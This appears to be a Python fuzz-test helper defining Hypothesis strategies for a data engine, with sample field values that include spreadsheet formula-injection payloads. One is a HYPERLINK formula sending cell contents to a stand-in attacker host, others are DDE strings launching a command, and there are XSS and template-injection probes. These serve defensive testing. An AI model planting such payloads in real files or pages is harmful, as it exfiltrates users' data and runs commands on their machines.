"""Hypothesis strategies and settings shared by the fuzz tests."""
from __future__ import annotations

import duckdb
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from chronolink.engine.store import schema_sql

#: Fast and reproducible: same examples every run, no example database, no deadline.
FUZZ = settings(max_examples=40, deadline=None, derandomize=True, database=None,
                suppress_health_check=list(HealthCheck))

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=\x00"]
SCRIPTS = ["</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
           "javascript:alert(1)", "{{7*7}}", "${7*7}", "<!--", "]]>"]
AWKWARD = ['"', '""', "a,b", "a\nb", "a\r\nb", "a\rb", " padded ", "\ufeffbom", "NUL\x00byte", "tab\tin", "\\", "'",
           "Ünïcödé ÉÀ", "Łódź", "日本語", "💥", "ｆｕｌｌ", "\u2028\u2029", "O'NEIL-SMITH", "(", ")", ";", "(1/2/2020, x"]
DATES = ["01/02/2021", "2021-02-01", "01-Feb-2021", "31/02/2021", "2021-02-01 10:00:00", "01/02/2021 10:00",
         "03/04/15", "1899-12-31", "2999-01-01", "44000", "0", "yesterday", "00/00/0000"]
CODES = ["M", "F", "U", "Male", "Female", "DOMESTIC", "BAIL", "Injury", "Referral", "Tenancy Start", "Licence Start",
         "Mother", "Father", "SUSPECT", "VICTIM", "CP Plan", "Disclosure"]
IDS = ["943 476 5919", "9434765919", "1234567890", "H801200001001", "84/0123456X", "N0047110", "X998877", "LA7766554",
       "NN16 8QT", "nn168qt", "SW1A1AA", "100031234567"]
LIST_ENTRIES = ["Ann Smith (01/02/2013, daughter)", "Bob (son)", "(01/02/2013)", "Zed Q (2013-02-01, Partner); Al B",
                ";;", "Name (unclosed", "A (1, 2, 3, 4)"]

text_field = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=24)
field = st.one_of(
    st.just(""), text_field, st.sampled_from(FORMULAS), st.sampled_from(SCRIPTS), st.sampled_from(AWKWARD),
    st.sampled_from(DATES), st.sampled_from(CODES), st.sampled_from(IDS), st.sampled_from(LIST_ENTRIES),
)
iso_date = st.dates().map(lambda d: d.isoformat())


def memory_store() -> duckdb.DuckDBPyConnection:
    """A fresh in-memory store with the schema (fast, nothing on disk)."""
    con = duckdb.connect(config={"autoinstall_known_extensions": False, "autoload_known_extensions": False})
    con.execute(schema_sql())
    return con
